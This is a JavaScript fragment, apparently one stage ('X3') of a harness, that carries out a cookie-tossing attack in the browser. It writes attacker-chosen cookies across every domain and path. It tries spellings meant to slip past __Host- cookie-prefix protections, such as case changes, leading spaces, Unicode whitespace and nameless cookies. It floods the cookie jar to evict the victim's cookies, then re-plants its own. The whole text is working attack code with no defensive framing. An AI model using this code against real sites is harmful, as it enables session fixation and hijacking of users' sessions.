// X3: cookies of the attacker's for every host of the site, under every name
// and path that may be read first. Names with a prefix are tried in spellings
// that a server may take for the same.
const spellings = (name) => [name, ...(name.startsWith("__") ? [
  name.toLowerCase(), name.toUpperCase(), " " + name, "\u2000" + name, name.replace("__Host-Http-", ""), name.replace("__Host-Http-", "__Host-"),
] : [])];
const write = (text) => { try { document.cookie = text; } catch { /* refused */ } };
let tried = 0;
for (const [name, value] of JSON.parse(cookies)) {
  for (const path of JSON.parse(paths)) {
    const rest = "; Domain=" + domain + "; Path=" + path + "; Max-Age=" + age;
    for (const spelled of spellings(name)) for (const secure of ["; Secure", ""]) {
      write(spelled + "=" + value + rest + secure);
      tried++;
    }
    write("=" + name + "=" + value + rest); // a cookie without a name, which is sent as if it had one
    tried++;
  }
}
const kept = document.cookie.split("; ").filter(Boolean).length;
// A site has room for 180 cookies; one more, and the oldest goes, whoever set it.
for (let i = 0; i < Number(flood); i++) write("flood" + i + "=1; Domain=" + domain + "; Path=/; Max-Age=60; Secure");
const left = document.cookie.split("; ").filter((pair) => pair.startsWith("flood")).length;
for (let i = 0; i < Number(flood); i++) write("flood" + i + "=; Domain=" + domain + "; Path=/; Max-Age=0; Secure");
for (const [name, value] of Number(flood) ? JSON.parse(cookies) : []) { // once more, now that there is room
  for (const path of JSON.parse(paths)) write(name + "=" + value + "; Domain=" + domain + "; Path=" + path + "; Max-Age=" + age + "; Secure");
}
const names = document.cookie.split("; ").map((pair) => pair.split("=")[0]).join(" ");
await report({names, tried: tried + " cookies", flooded: left + " more", kept: kept + " of them"});
